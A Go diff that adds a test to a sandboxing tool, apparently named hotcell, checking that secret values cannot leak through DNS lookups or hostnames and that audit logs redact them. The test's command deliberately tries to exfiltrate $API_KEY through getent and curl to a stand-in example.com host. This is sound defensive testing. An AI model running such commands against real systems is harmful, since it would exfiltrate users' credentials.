@@ -235,3 +235,21 @@ func TestTimeLimit(t *testing.T) {
 		t.Errorf("%+v", r)
 	}
 }
+
+func TestANameIsNoWayOut(t *testing.T) {
+	t.Parallel()
+	s := hotcelltest.Start(t, "")
+	s.OK("secrets", "create", "billing", "--env-file", file(t, ".env", dotenv))
+	s.OK("assignments", "create", "leak", "--command",
+		`getent hosts "$API_KEY.example.com"; getent hosts "x-$API_KEY"; curl -sS --max-time 5 "https://$API_KEY.example.com/" -x http://127.0.0.1:3128; getent hosts plain.example; true`)
+	s.OK("assignments", "attach", "leak", "billing")
+	s.OK("run", "leak")
+	list := s.OK("audit", "list", "--kind", "network.refuse")
+	if !strings.Contains(list, "[hotcell:billing].example.com") || !strings.Contains(list, "plain.example") {
+		t.Errorf("the refusals:\n%s", list)
+	}
+	if hotcelltest.Holds([]byte(list), apiKey) != "" {
+		t.Errorf("the audit log holds a value:\n%s", list)
+	}
+	s.Canaries(apiKey, password, hashed)
+}
